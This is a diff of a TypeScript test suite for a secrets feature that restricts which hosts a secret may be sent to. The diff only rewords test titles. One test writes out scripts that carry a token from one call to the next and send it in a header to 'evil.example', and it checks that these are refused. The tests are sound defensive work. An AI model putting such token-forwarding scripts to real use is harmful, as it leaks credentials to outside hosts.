@@ -77,7 +77,7 @@ describe('allowedHosts', () => {
     )
   })
 
-  test('stay when only the value changes; a change of them is audited with those before', async () => {
+  test('do not change with the value; the audit entry of a change lists them before and after', async () => {
     const made = await createSecret(['api.example.com'])
     const path = `${pathOf('project')}/${made.id}`
     const valued = await api.call<Variable>(owner, 'PATCH', path, { body: { value: 'another value' } })
@@ -98,7 +98,7 @@ describe('allowedHosts', () => {
     expect(JSON.stringify(entries)).not.toMatch(/hidden|another value/)
   })
 
-  test('are refused for what is no secret, and where they are no hosts or too many', async () => {
+  test('are refused for other types, when invalid, and when too many', async () => {
     const create = (body: object) =>
       api.call(owner, 'POST', pathOf('project'), {
         body: { key: unique('k').replace(/\W/g, '_'), value: 'x', ...body },
@@ -119,7 +119,7 @@ describe('allowedHosts', () => {
     }
   })
 
-  test('are set by who may write the variable: neither by readers of it nor by writers of a service below', async () => {
+  test('are set with write access to the variable, not with read access or with write access to a service below', async () => {
     const made = await createSecret(['api.example.com'])
     const set = { scope: 'project' as const, resourceId: ids.project, id: made.id, allowedHosts: [] }
     const beneath = await createMember(api.db, organization, { grants: [{ serviceId: ids.service, level: 2 }] })
@@ -184,7 +184,7 @@ describe('a script that sends a secret elsewhere', () => {
     })
   })
 
-  test('is refused where a value goes on from one call to the next', async () => {
+  test('is refused when a value passes from one call to the next', async () => {
     const script = 'get("https://api.example.com/$p.token").store({ "$$copy": $p.token, kept: $p.token })'
     for (const next of ['$$copy', '"x ${$$copy}"', '$s.kept', 'prev.runVars.copy']) {
       const saved = await save(`${script}\nget("https://evil.example/", { headers: { a: ${next} } }).wait(0)`)
@@ -261,7 +261,7 @@ describe('Host headers of a script', () => {
 })
 
 describe('variables.usage', () => {
-  test('lists the services beneath that name the variable, as far as the member may see them', async () => {
+  test('lists the services in the scope that name the variable and that the member can see', async () => {
     const { id, key } = await createSecret([], { key: `used_${randomUUID().slice(0, 8)}` })
     const scripts: Record<string, string> = {
       plain: `get("https://a.example/$p.${key}")`,
